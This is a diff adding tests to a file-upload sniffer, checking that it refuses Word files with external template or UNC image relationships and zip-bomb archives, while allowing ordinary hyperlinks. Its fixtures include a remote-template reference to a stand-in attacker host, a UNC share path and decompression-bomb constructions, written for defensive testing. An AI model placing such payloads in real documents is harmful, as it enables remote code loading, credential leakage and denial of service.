@@ -1,3 +1,4 @@
+import crypto from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { sniff } from './files.sniff.ts';
 import { contentDisposition, displayName, extensionOf } from './files.storage.ts';
@@ -81,6 +82,45 @@ describe('upload content checks', () => {
     expect(sniff(latin1('%PDF-1.4\n1 0 obj << >> endobj\n'))).toMatchObject({ reason: 'malformed' });
     // A name that merely starts like an action is not one.
     expect(sniff(pdf('/JSON (x) /JavaScriptish 1'))).toEqual({ ok: true, type: 'pdf' });
+  });
+
+  it('refuses Word files that load a template, image or frame from elsewhere (issue 15)', () => {
+    const rels = (rel: string) =>
+      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
+    const template = rels(
+      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
+    );
+    expect(sniff(docx({ 'word/_rels/settings.xml.rels': template }))).toMatchObject({ reason: 'active' });
+    // The same, deflated, attribute order changed and a namespace prefix: still found.
+    const sneaky = rels(
+      "<pr:Relationship TargetMode='External' Target='\\\\host\\share\\x.png' Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image'/>",
+    );
+    expect(sniff(docx({ 'word/_rels/document.xml.rels': sneaky }, ['word/_rels/document.xml.rels']))).toMatchObject({
+      reason: 'active',
+    });
+    // A hyperlink opens only when clicked: allowed.
+    const link = rels(
+      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/>',
+    );
+    expect(sniff(docx({ 'word/_rels/document.xml.rels': link }))).toEqual({ ok: true, type: 'docx' });
+  });
+
+  it('refuses Word files that are archive bombs, by declared and by real sizes (issue 15)', () => {
+    // 64 MB of zeros deflates to ~64 KB: over 100:1.
+    const zeros = Buffer.alloc(64 * 1024 * 1024);
+    expect(sniff(docx({ 'word/media/a.bin': zeros }, ['word/media/a.bin']))).toMatchObject({ reason: 'malformed' });
+    // Many entries each under the ratio limit but over 100 MB in all.
+    const noise = crypto.randomBytes(2 * 1024 * 1024);
+    const many: Record<string, Buffer> = {};
+    for (let i = 0; i < 51; i++) many[`word/media/n${i}.bin`] = noise;
+    expect(sniff(docx(many))).toMatchObject({ reason: 'malformed' });
+    // A compressed relationship part that inflates past its cap is refused, never inflated whole.
+    const bigRels = `<Relationships>${' '.repeat(8 * 1024 * 1024)}</Relationships>`;
+    expect(sniff(docx({ 'word/_rels/document.xml.rels': bigRels }, ['word/_rels/document.xml.rels']))).toMatchObject({
+      ok: false,
+    });
+    // A deflated entry of ordinary size and ratio is fine.
+    expect(sniff(docx({}, ['word/document.xml']))).toEqual({ ok: true, type: 'docx' });
   });
 
   it('refuses Word files with macros or embedded programs, and other zips and OLE files', () => {
